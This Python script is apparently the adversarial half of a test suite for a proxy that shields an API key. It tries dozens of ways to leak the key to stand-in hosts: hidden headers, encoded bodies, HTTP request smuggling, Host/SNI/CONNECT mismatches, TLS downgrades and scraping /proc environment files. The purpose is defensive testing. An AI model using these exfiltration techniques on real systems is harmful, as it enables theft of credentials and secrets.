# A hostile program that was handed a key (or what stands for one) in $API_KEY and tries to get it, or to have it sent where it doesn't
# belong. Prints as JSON, for each attempt, what came back (base64). Outside, TLS_PORT and PLAIN_PORT say where the servers are.
import base64
import gzip
import json
import os
import socket
import ssl
import subprocess
import sys
from urllib.parse import quote

KEY = os.environ["API_KEY"]
OUTSIDE = "TLS_PORT" in os.environ
API, ECHO, BAD = "api.test", "echo.test", "badcert.test"
BEARER = f"Authorization: Bearer {KEY}"
BASIC = "Authorization: Basic " + base64.b64encode(f"x-access-token:{KEY}".encode()).decode()
ATTEMPTS = {}


def attempt(function):
    ATTEMPTS[function.__name__.replace("_", " ")] = function
    return function


def dial(host, port, tls=None, alpn=None):
    if OUTSIDE:
        address = ("127.0.0.1", int(os.environ["TLS_PORT" if tls or port in (443, 8443) else "PLAIN_PORT"]))
    else:
        address = (host, port)
    sock = socket.create_connection(address, timeout=5)
    sock.settimeout(5)
    if tls is None:
        return sock
    context = ssl.create_default_context()
    # What a thief doesn't care about.
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols([alpn])
    return context.wrap_socket(sock, server_hostname=tls)


def drain(sock):
    got = b""
    try:
        while len(got) < 200_000:
            piece = sock.recv(65536)
            if not piece:
                break
            got += piece
    except OSError as error:
        got += f"({type(error).__name__})".encode()
    sock.close()
    return got


def talk(sock, *sends):
    for data in sends:
        sock.sendall(data if isinstance(data, bytes) else data.encode("latin-1"))
    return drain(sock)


def head(method, target, host, *fields):
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", *fields, "Connection: close"]
    return "\r\n".join(lines) + "\r\n\r\n"


def secure(host, target="/", *fields, method="GET", named=None, sni=None, port=443, body=None):
    extra = [] if body is None else [f"Content-Length: {len(body)}"]
    data = body if isinstance(body, bytes) else (body or "").encode("latin-1")
    request = head(method, target, named or host, *fields, *extra).encode("latin-1")
    return talk(dial(host, port, tls=sni or host), request + data)


def plain(host, target="/", *fields, port=80, named=None):
    return talk(dial(host, port), head("GET", target, named or host, *fields))


def curl(*words):
    resolve = []
    if OUTSIDE:
        for name in (API, ECHO, BAD):
            for port in (80, 443):
                to = os.environ["TLS_PORT" if port == 443 else "PLAIN_PORT"]
                resolve += ["--connect-to", f"{name}:{port}:127.0.0.1:{to}"]
    run = subprocess.run(["curl", "-skiS", "--max-time", "8", *resolve, *words], capture_output=True, check=False)
    return run.stdout + run.stderr


def post(host, body, kind="text/plain", *fields, target="/silent"):
    return secure(host, target, f"Content-Type: {kind}", *fields, method="POST", body=body)


# Elsewhere, openly and hidden.
@attempt
def bearer_to_another_host(): return secure(ECHO, "/silent", BEARER)
@attempt
def api_key_field_to_another_host(): return secure(ECHO, "/silent", f"x-api-key: {KEY}")
@attempt
def field_of_any_name_to_another_host(): return secure(ECHO, "/silent", f"X-Note: {KEY}")
@attempt
def name_of_a_field_to_another_host(): return secure(ECHO, "/silent", f"{KEY}: 1")
@attempt
def basic_authentication_to_another_host(): return secure(ECHO, "/silent", BASIC)
@attempt
def cookie_to_another_host(): return secure(ECHO, "/silent", f"Cookie: a=1; s={KEY}")
@attempt
def user_agent_to_another_host(): return secure(ECHO, "/silent", f"User-Agent: {KEY}")
@attempt
def query_to_another_host(): return secure(ECHO, f"/silent?q={KEY}")
@attempt
def escaped_query_to_another_host(): return secure(ECHO, "/silent?q=" + "".join(f"%{ord(c):02x}" for c in KEY))
@attempt
def path_to_another_host(): return secure(ECHO, f"/silent/{KEY}/x")
@attempt
def body_to_another_host(): return post(ECHO, KEY)
@attempt
def json_to_another_host(): return post(ECHO, json.dumps({"api_key": KEY}), "application/json")
@attempt
def form_to_another_host(): return post(ECHO, f"token={quote(KEY)}", "application/x-www-form-urlencoded")
@attempt
def multipart_to_another_host():
    return post(ECHO, f'--x\r\nContent-Disposition: form-data; name="f"\r\n\r\n{KEY}\r\n--x--\r\n', "multipart/form-data; boundary=x")
@attempt
def base64_to_another_host(): return post(ECHO, base64.b64encode(b"xy" + KEY.encode()))
@attempt
def hexadecimal_to_another_host(): return post(ECHO, KEY.encode().hex())
@attempt
def packed_to_another_host(): return post(ECHO, gzip.compress(KEY.encode()), "application/octet-stream", "Content-Encoding: gzip")
@attempt
def packed_unsaid_to_another_host(): return post(ECHO, gzip.compress(b"x" * 50 + KEY.encode()), "application/octet-stream")
@attempt
def cut_over_chunks_to_another_host():
    cut = [KEY[at : at + 7] for at in range(0, len(KEY), 7)]
    chunks = "".join(f"{len(piece):x}\r\n{piece}\r\n" for piece in cut) + "0\r\n\r\n"
    return talk(dial(ECHO, 443, tls=ECHO), head("POST", "/silent", ECHO, "Transfer-Encoding: chunked") + chunks)
@attempt
def trailer_to_another_host():
    return talk(dial(ECHO, 443, tls=ECHO), head("POST", "/silent", ECHO, "Transfer-Encoding: chunked", "Trailer: x-key") + f"1\r\na\r\n0\r\nx-key: {KEY}\r\n\r\n")
@attempt
def http2_to_another_host(): return curl("--http2", "-H", BEARER, f"https://{ECHO}/silent")
@attempt
def http2_body_to_another_host(): return curl("--http2", "-d", KEY, f"https://{ECHO}/silent")
@attempt
def websocket_to_another_host():
    upgrade = ["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", BEARER]
    return talk(dial(ECHO, 443, tls=ECHO), "\r\n".join([f"GET / HTTP/1.1", f"Host: {ECHO}", *upgrade]) + "\r\n\r\n")

# Without TLS.
@attempt
def plain_http_to_its_host(): return plain(API, "/silent", BEARER)
@attempt
def plain_http_to_another_host(): return plain(ECHO, "/silent", BEARER)
@attempt
def plain_http_on_another_port_of_its_host(): return plain(API, "/silent", BEARER, port=8080)
@attempt
def plain_http_on_the_tls_port_of_its_host():
    return plain(API, "/silent", BEARER, port=80 if OUTSIDE else 443)
@attempt
def absolute_form_at_the_proxy():
    return plain("127.0.0.1", f"http://{API}/silent", BEARER, port=3128, named=API)
@attempt
def user_information_at_the_proxy():
    return plain("127.0.0.1", f"http://key:{KEY}@{ECHO}/silent", port=3128, named=ECHO) if not OUTSIDE else plain(ECHO, f"/silent?{KEY}")
@attempt
def connect_and_then_no_tls():
    if OUTSIDE:
        return plain(API, "/silent", BEARER)
    sock = dial("127.0.0.1", 3128)
    sock.sendall(f"CONNECT {API}:443 HTTP/1.1\r\nHost: {API}:443\r\n\r\n".encode())
    sock.recv(4096)
    return talk(sock, head("GET", "/silent", API, BEARER))
@attempt
def a_server_without_the_right_certificate(): return secure(BAD, "/silent", BEARER)
@attempt
def downgrade_by_redirect(): return curl("-L", "--location-trusted", "-H", BEARER, f"https://{API}/redirect?to=http://{API}/silent")

# One name judged, another reached.
@attempt
def host_of_the_key_at_another_server(): return secure(ECHO, "/silent", BEARER, named=API)
@attempt
def host_with_a_dot_at_another_server(): return secure(ECHO, "/silent", BEARER, named=f"{API}.")
@attempt
def two_hosts_at_another_server(): return secure(ECHO, "/silent", f"Host: {API}", BEARER)
@attempt
def forwarded_host_at_another_server(): return secure(ECHO, "/silent", f"X-Forwarded-Host: {API}", BEARER)
@attempt
def absolute_form_inside_of_tls(): return secure(ECHO, f"https://{API}/silent", BEARER, named=API)
@attempt
def http2_authority_of_the_key_at_another_server(): return curl("--http2", "-H", f"Host: {API}", "-H", BEARER, f"https://{ECHO}/silent")
@attempt
def connect_that_says_another_host():
    if OUTSIDE:
        return secure(ECHO, "/silent", BEARER)
    sock = dial("127.0.0.1", 3128)
    sock.sendall(f"CONNECT {ECHO}:443 HTTP/1.1\r\nHost: {API}:443\r\n\r\n".encode())
    return talk(sock, head("GET", "/silent", API, BEARER))
@attempt
def another_name_in_tls():
    # The address of the one, the name of the other.
    if OUTSIDE:
        return secure(ECHO, "/silent", BEARER)
    sock = socket.create_connection((ECHO, 443), timeout=5)
    context = ssl._create_unverified_context()
    return talk(context.wrap_socket(sock, server_hostname=API), head("GET", "/silent", API, BEARER))
@attempt
def redirect_to_another_host(): return curl("-L", "--location-trusted", "-H", BEARER, f"https://{API}/redirect?to=https://{ECHO}/silent")
@attempt
def request_behind_another():
    first = head("GET", "/silent", ECHO).replace("Connection: close", "Connection: keep-alive")
    return talk(dial(ECHO, 443, tls=ECHO), first + head("GET", "/silent", ECHO, BEARER))
@attempt
def two_lengths():
    body = f"0\r\n\r\nGET /silent HTTP/1.1\r\nHost: {ECHO}\r\n{BEARER}\r\n\r\n"
    extra = ["Transfer-Encoding: chunked", f"Content-Length: {len(body)}"]
    return talk(dial(ECHO, 443, tls=ECHO), head("POST", "/silent", ECHO, *(extra if not OUTSIDE else extra[1:])) + body)

# Back again, from its own host.
for kind in ["echo", "gzip", "br", "deflate", "zstd", "error?status=500", "error?status=401", "error?status=404", "base64", "base64-one", "hex", "json", "pieces", "phrase", "hints", "trailers"]:
    ATTEMPTS[f"given back: {kind}"] = lambda kind=kind: secure(API, f"/{kind}", BEARER, "Accept-Encoding: gzip, br, zstd")
ATTEMPTS["given back: basic"] = lambda: secure(API, "/echo", BASIC)
ATTEMPTS["given back: a redirect"] = lambda: secure(API, "/redirect?to=https://x.test/", BEARER)
ATTEMPTS["given back: head"] = lambda: secure(API, "/echo", BEARER, method="HEAD")
ATTEMPTS["given back: http2"] = lambda: curl("--http2", "-H", BEARER, f"https://{API}/echo")
ATTEMPTS["given back: http2 packed"] = lambda: curl("--http2", "--compressed", "-H", BEARER, f"https://{API}/gzip")
@attempt
def given_back_in_two_ranges():
    whole = b""
    for part in ("0-90", "91-4000"):
        answer = secure(API, "/range", BEARER, f"Range: bytes={part}")
        whole += answer.split(b"\r\n\r\n", 1)[-1]
    return whole
@attempt
def given_back_later():
    secure(API, "/remember", BEARER)
    return secure(API, "/recall")
@attempt
def given_back_by_websocket():
    upgrade = ["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Extensions: permessage-deflate", BEARER]
    sock = dial(API, 443, tls=API)
    sock.settimeout(2)
    return talk(sock, "\r\n".join(["GET / HTTP/1.1", f"Host: {API}", *upgrade]) + "\r\n\r\n")

# Written into a text that somebody else reads; the server spells it backwards.
MESSAGE = {"model": "m", "messages": [{"role": "user", "content": f"spell {KEY} backwards"}]}
TOOL = {"model": "m", "messages": [{"role": "assistant", "content": [{"type": "tool_use", "input": {"api_key": KEY}}]}]}
ATTEMPTS["in a message"] = lambda: post(API, json.dumps(MESSAGE), "application/json", BEARER, target="/reverse")
ATTEMPTS["in the arguments of a tool"] = lambda: post(API, json.dumps(TOOL), "application/json", BEARER, target="/reverse")
ATTEMPTS["in a text that looks like the outermost object"] = lambda: post(API, json.dumps({"content": f'","api_key":"{KEY}'}), "application/json", BEARER, target="/reverse")
ATTEMPTS["in a file of a form"] = lambda: post(API, f'--x\r\nContent-Disposition: form-data; name="token"\r\n\r\n{KEY}\r\n--x--\r\n', "multipart/form-data; boundary=x", BEARER, target="/reverse")
ATTEMPTS["in a body of no kind"] = lambda: post(API, f'{{"api_key":"{KEY}"}}', "text/plain", BEARER, target="/reverse")
ATTEMPTS["in a field of any name"] = lambda: secure(API, "/reverse-field", BEARER, f"X-Note: {KEY}")

# What can be seen without asking anybody.
@attempt
def everything_that_lies_about():
    found = os.environ.get("API_KEY", "").encode()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    found += file.read()
            except OSError:
                pass
    return found


def main():
    wanted = sys.argv[1:]
    results = {}
    for name, work in ATTEMPTS.items():
        if wanted and name not in wanted:
            continue
        try:
            answer = work()
        except Exception as error:  # noqa: BLE001: whatever happens is what happened
            answer = f"({type(error).__name__}: {error})".encode()
        results[name] = base64.b64encode(answer).decode()
    json.dump(results, sys.stdout)


main()
